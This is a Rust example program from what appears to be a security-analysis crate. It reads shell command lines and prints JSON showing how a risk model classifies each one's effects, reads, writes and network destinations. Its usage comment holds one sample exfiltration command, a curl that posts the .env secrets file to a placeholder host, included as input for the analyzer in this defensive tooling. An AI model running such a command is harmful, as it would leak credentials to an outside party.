//! Prints the shell-effect analysis (`seclab_engine::shell::analyze`) of each
//! command line read from standard input, one JSON object per line: a tool for
//! checking how the risk model reads a command.
//!
//! `echo 'curl -d @.env https://x.example' | cargo run -p seclab-engine --example shell_effects`

use std::io::BufRead;

fn main() {
    let stdin = std::io::stdin();
    for line in stdin.lock().lines() {
        let Ok(line) = line else { break };
        if line.trim().is_empty() {
            continue;
        }
        let a = seclab_engine::shell::analyze(&line);
        let effects: Vec<&str> = a.effects.iter().map(|e| e.as_str()).collect();
        let v = serde_json::json!({
            "line": line,
            "effects": effects,
            "parsed": a.parsed,
            "reads": a.reads,
            "writes": a.writes,
            "destinations": a.destinations,
            "cwd": a.cwd.0,
            "commands": a.commands.iter().map(|c| serde_json::json!({
                "program": c.program,
                "args": c.args,
                "effects": c.effects.iter().map(|e| e.as_str()).collect::<Vec<_>>(),
                "depth": c.depth,
            })).collect::<Vec<_>>(),
        });
        println!("{v}");
    }
}
